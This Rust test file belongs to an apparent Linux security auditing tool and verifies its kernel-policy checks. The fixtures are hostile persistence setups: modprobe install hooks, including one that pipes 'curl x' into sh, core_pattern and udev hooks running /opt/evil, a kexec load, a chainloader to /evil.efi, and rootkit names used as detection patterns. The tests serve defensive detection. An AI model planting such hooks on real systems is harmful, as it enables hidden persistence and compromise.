use crate::evidence::linux::testing::{Build, elf, keyless, ko, ko_of};
use crate::policy::Status;
use crate::policy::checks::linux::testing::{check, status};

const RELEASE: &str = "6.1.0-9-amd64";

fn clean() -> Build {
    Build::debian()
        .kernel(RELEASE, &keyless(RELEASE))
        .owned(
            "kmod",
            &[
                ("/usr/bin/false", 0o755, &elf(100)),
                ("/usr/sbin/modprobe", 0o755, &elf(90)),
            ],
        )
        .owned(
            "x",
            &[
                (
                    "/usr/lib/modprobe.d/a.conf",
                    0o644,
                    b"blacklist arkfb\ninstall dccp /usr/bin/false\n",
                ),
                (
                    "/usr/lib/modules-load.d/b.conf",
                    0o644,
                    b"# none\nbr-netfilter\n",
                ),
                (
                    "/usr/lib/sysctl.d/c.conf",
                    0o644,
                    b"kernel.modprobe = /usr/sbin/modprobe\n",
                ),
            ],
        )
}

/// The status with one more file that no package owns, and the place of the first evidence.
fn with(id: &str, path: &str, text: &str) -> (Status, Option<String>, Option<u32>) {
    let result = check(id, clean().file(path, 0o755, text));
    let at = result
        .evidence
        .first()
        .map(|e| e.at.clone())
        .unwrap_or_default();
    (result.status, at.path, at.line)
}

fn at(status: Status, path: &str, line: u32) -> (Status, Option<String>, Option<u32>) {
    (status, Some(path.into()), Some(line))
}

#[test]
fn hooks_of_modprobe_the_kernel_and_udev_run_only_programs_of_packages() {
    const ID: &str = "LNX-KERNEL-012";
    assert_eq!(status(ID, clean()), Status::Pass);
    let conf = "/etc/modprobe.d/z.conf";
    let evil = clean().file("/opt/evil", 0o755, "x");
    let hook = "# x\ninstall ext4 /usr/sbin/modprobe --ignore-install ext4; /opt/evil\n";
    let result = check(ID, evil.file(conf, 0o644, hook));
    assert_eq!(
        (result.status, result.evidence[0].at.line),
        (Status::Fail, Some(2))
    );
    assert_eq!(
        result.evidence[0].found.as_ref().map(|t| t.en.as_str()),
        Some("/opt/evil")
    );
    let shell = "install ext4 /bin/sh -c 'curl x | sh'\n";
    assert_eq!(with(ID, conf, shell), at(Status::Fail, conf, 1));
    assert_eq!(
        with(ID, conf, "install dccp /usr/bin/false\n").0,
        Status::Warn
    );
    assert_eq!(
        with(ID, conf, "blacklist nf_tables\n"),
        at(Status::Warn, conf, 1)
    );
    let list = "/etc/modules-load.d/z.conf";
    assert_eq!(with(ID, list, "\nacpiphp\n"), at(Status::Warn, list, 2));
    let sysctl = "/etc/sysctl.d/z.conf";
    let evil = || clean().file("/opt/evil", 0o755, "x");
    for text in [
        "kernel.modprobe=/opt/evil\n",
        "kernel.core_pattern = |/opt/evil %p\n",
    ] {
        assert_eq!(
            status(ID, evil().file(sysctl, 0o644, text)),
            Status::Fail,
            "{text}"
        );
    }
    let rule = "ACTION==\"add\", RUN+=\"/opt/evil %k\"\n";
    let rules = "/etc/udev/rules.d/z.rules";
    assert_eq!(status(ID, evil().file(rules, 0o644, rule)), Status::Fail);
    let hook = "/etc/initramfs-tools/hooks/z";
    assert_eq!(with(ID, hook, "#!/bin/sh\n").0, Status::Warn);
    let local = "#!/bin/sh\ninsmod /opt/x.ko\n";
    let (got, path, _) = with(ID, "/etc/rc.local", local);
    assert_eq!(
        (got, path.as_deref()),
        (Status::Fail, Some("/etc/rc.local"))
    );
    assert_eq!(
        status(ID, clean().missing("/etc/modprobe.d")),
        Status::Unknown
    );
}

#[test]
fn a_module_that_nobody_vouches_for_may_not_load_by_itself() {
    let module = "/lib/modules/6.1.0-9-amd64/updates/my-mod.ko";
    let build = clean().file(module, 0o644, ko_of(RELEASE, "my_mod")).file(
        "/etc/modules",
        0o644,
        "my_mod\n",
    );
    assert_eq!(status("LNX-KERNEL-012", build), Status::Fail);
}

#[test]
fn ways_to_another_kernel_are_told() {
    const ID: &str = "LNX-KERNEL-022";
    assert_eq!(status(ID, clean()), Status::Pass);
    let local = "/etc/rc.local";
    let kexec = "#!/bin/sh\nkexec -l /root/vmlinuz\n";
    let (got, path, _) = with(ID, local, kexec);
    assert_eq!((got, path.as_deref()), (Status::Fail, Some(local)));
    assert_eq!(
        with(ID, local, "#!/bin/sh\nkexec -p /root/vmlinuz\n").0,
        Status::Pass
    );
    let set = "/etc/default/kexec";
    assert_eq!(with(ID, set, "LOAD_KEXEC=true\n"), at(Status::Fail, set, 1));
    assert_eq!(with(ID, set, "LOAD_KEXEC=false\n").0, Status::Pass);
    let menu = |n| {
        let head =
            format!("set default={n}\nmenuentry a {{\nlinux /boot/vmlinuz-6.1.0-9-amd64\n}}\n");
        format!("{head}menuentry b {{\nchainloader /evil.efi\n}}\n")
    };
    let grub = "/boot/grub/grub.cfg";
    assert_eq!(with(ID, grub, &menu(1)).0, Status::Fail);
    assert_eq!(with(ID, grub, &menu(0)).0, Status::Warn);
    assert_eq!(
        with(ID, "/etc/grub.d/09_evil", "#!/bin/sh\n").0,
        Status::Warn
    );
}

#[test]
fn what_building_a_kernel_leaves_is_told() {
    const ID: &str = "LNX-KERNEL-018";
    assert_eq!(status(ID, clean()), Status::Pass);
    assert_eq!(status(ID, clean().dir("/usr/src/linux-6.9")), Status::Warn);
    assert_eq!(
        status(ID, clean().dir("/usr/src/linux-headers-6.9")),
        Status::Pass
    );
    for path in [
        "/root/linux-image-6.9_1_amd64.deb",
        "/boot/vmlinuz.old",
        "/opt/src/Module.symvers",
    ] {
        assert_eq!(with(ID, path, "x").0, Status::Warn, "{path}");
    }
    let history = "/root/.bash_history";
    assert_eq!(
        with(ID, history, "ls\nmake modules_install\n"),
        at(Status::Warn, history, 2)
    );
    let status_file = "Package: linux-image-6.1.0-9-amd64\nStatus: install ok installed\n\
                       Maintainer: root <root@buildhost>\nArchitecture: amd64\nVersion: 1\n";
    let menu = "set default=0\nmenuentry a {\nlinux /boot/vmlinuz-6.1.0-9-amd64\n}\n";
    let made = clean()
        .file("/var/lib/dpkg/status", 0o644, status_file)
        .file("/boot/grub/grub.cfg", 0o600, menu);
    assert_eq!(status(ID, made), Status::Fail);
}

#[test]
fn rootkits_are_told_by_name_file_and_what_they_take() {
    const ID: &str = "LNX-KERNEL-023";
    assert_eq!(status(ID, clean()), Status::Pass);
    let module = "/lib/modules/6.1.0-9-amd64/extra/d.ko";
    let named = |key: &str, value: &str| ko(&[(key, value), ("vermagic", RELEASE)]);
    for (key, value) in [
        ("name", "diamorphine"),
        ("description", "The Reptile LKM"),
        ("author", "x, KBeast team"),
    ] {
        let build = clean().file(module, 0o644, named(key, value));
        assert_eq!(status(ID, build), Status::Fail, "{value}");
    }
    let plain = clean().file(module, 0o644, named("name", "d"));
    assert_eq!(status(ID, plain), Status::Pass);
    assert_eq!(
        with(ID, "/etc/modules", "diamorphine\n"),
        at(Status::Fail, "/etc/modules", 1)
    );
    assert_eq!(with(ID, "/reptile/x", "").0, Status::Fail);
    assert_eq!(
        with(ID, "/etc/rc.local", "#!/bin/sh\n/opt/bpfdoor &\n").0,
        Status::Fail
    );
}

#[test]
fn settings_are_listed_with_their_lines_and_the_last_of_a_key_counts() {
    const ID: &str = "LNX-KERNEL-024";
    let result = check(
        ID,
        clean().file("/etc/sysctl.d/z.conf", 0o644, "kernel.sysrq = 1\n"),
    );
    assert_eq!(result.status, Status::Pass);
    let notes: Vec<&str> = result.evidence.iter().map(|e| e.note.en.as_str()).collect();
    assert_eq!(
        notes,
        ["kernel.modprobe=/usr/sbin/modprobe", "kernel.sysrq=1"]
    );
    let text = "kernel/kptr_restrict=1\nkernel.kptr_restrict=0\n";
    assert_eq!(
        with(ID, "/etc/sysctl.conf", text),
        at(Status::Warn, "/etc/sysctl.conf", 2)
    );
    let config = "CONFIG_MODULE_SIG=y\n# CONFIG_STRICT_DEVMEM is not set\n";
    assert_eq!(
        with(ID, "/boot/config-1", config),
        at(Status::Warn, "/boot/config-1", 2)
    );
}
